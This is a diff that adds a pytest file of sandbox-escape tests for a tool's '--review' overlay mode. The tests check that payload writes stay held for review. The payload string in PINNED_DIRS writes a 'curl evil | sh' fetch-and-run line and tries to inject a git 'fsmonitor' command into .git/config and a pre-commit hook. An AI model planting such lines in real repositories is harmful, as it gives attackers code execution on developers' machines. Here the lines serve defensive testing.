@@ -1,0 +1,98 @@
+"""A second round of attacks on --review (docs/design.md, "Changes held for review"):
+the protections a live run has, through the overlay, and the layer's own limit.
+Each test prints ESCAPED, and fails, only when the attack succeeded."""
+
+from __future__ import annotations
+
+import json
+import re
+import subprocess
+from collections.abc import Iterator
+
+import pytest
+
+from tests.conftest import BIN, Boxy
+
+pytestmark = pytest.mark.sandbox
+
+
+@pytest.fixture(autouse=True)
+def _nothing_held_after(boxy: Boxy) -> Iterator[None]:
+    yield
+    listed = _ctl(boxy, "ps", "--json")
+    for s in json.loads(listed.stdout or b"{}").get("sessions", []):
+        if s.get("review"):
+            _ctl(boxy, "discard", s["id"])
+
+
+def _ctl(boxy: Boxy, *args: str) -> subprocess.CompletedProcess[bytes]:
+    return boxy.user.run([str(BIN / "boxyctl"), *args], cwd=boxy.workdir)
+
+
+def _run(boxy: Boxy, code: str, *flags: str) -> tuple[str, str]:
+    """Run the Python CODE with --review: (the session id its last line names, or '';
+    what it said)."""
+    r = boxy.run("--net", "none", "--review", *flags, cmd=["python3", "-c", code], input=b"")
+    text = r.stderr.decode(errors="replace") + r.stdout.decode(errors="replace")
+    m = re.search(r"boxyctl diff (\w+)", text)
+    return (m.group(1) if m else ""), text
+
+
+def _held(boxy: Boxy, code: str, *flags: str) -> str:
+    sid, text = _run(boxy, code, *flags)
+    assert sid, text
+    return sid
+
+
+def _escaped(what: str) -> None:
+    print(f"ESCAPED: {what}")
+    pytest.fail(f"ESCAPED: {what}")
+
+
+def _host_repo(boxy: Boxy) -> None:
+    boxy.user.chown(boxy.workdir)
+    git = ["git", "-C", str(boxy.workdir)]
+    assert boxy.user.run([*git, "init", "-q"]).returncode == 0
+
+
+# The git guard pins a gitdir and the directories above a nested one or a held file
+# by binding each onto itself ("a mount point cannot be renamed away"). Under --review
+# such a bind taken from the host's tree put the host's directory, writable, over the
+# overlay: what the payload wrote there reached the host at once, held for nobody.
+PINNED_DIRS = r"""
+import os
+open('.git/info/exclude', 'a').write('boxy-marker\n')
+open('.git/ORIG_HEAD', 'w').write('0' * 40 + '\n')
+open('vendor/lib/evil.py', 'w').write('import os\n')
+open('tools/ci/new.sh', 'w').write('curl evil | sh\n')
+for pinned in ('.git/config', 'tools/ci/.envrc', '.git/hooks/pre-commit'):
+    try:
+        open(pinned, 'a').write('\n[core]\n\tfsmonitor = touch PWNED\n')
+        print('PIN-UNDONE', pinned)
+    except OSError:
+        pass
+"""
+
+
+def test_a_pinned_directory_is_no_way_around_the_overlay(boxy: Boxy) -> None:
+    (boxy.workdir / "vendor" / "lib").mkdir(parents=True)
+    (boxy.workdir / "tools" / "ci").mkdir(parents=True)
+    (boxy.workdir / "tools" / "ci" / ".envrc").write_text("export A=1\n")
+    _host_repo(boxy)
+    lib = str(boxy.workdir / "vendor" / "lib")
+    assert boxy.user.run(["git", "-C", lib, "init", "-q"]).returncode == 0
+    sid, text = _run(boxy, PINNED_DIRS)
+    early = [
+        p
+        for p in (".git/ORIG_HEAD", "vendor/lib/evil.py", "tools/ci/new.sh")
+        if (boxy.workdir / p).exists()
+    ]
+    if "boxy-marker" in (boxy.workdir / ".git" / "info" / "exclude").read_text():
+        early.append(".git/info/exclude")
+    if early:
+        _escaped(f"--review: the payload's writes reached the host before any review: {early}")
+    if "PIN-UNDONE" in text:
+        _escaped(f"--review: a pin a live run has was writable through the overlay: {text}")
+    assert sid, text
+    listed = {c["path"] for c in json.loads(_ctl(boxy, "diff", "--json", sid).stdout)["changes"]}
+    assert {"vendor/lib/evil.py", "tools/ci/new.sh"} <= listed, listed
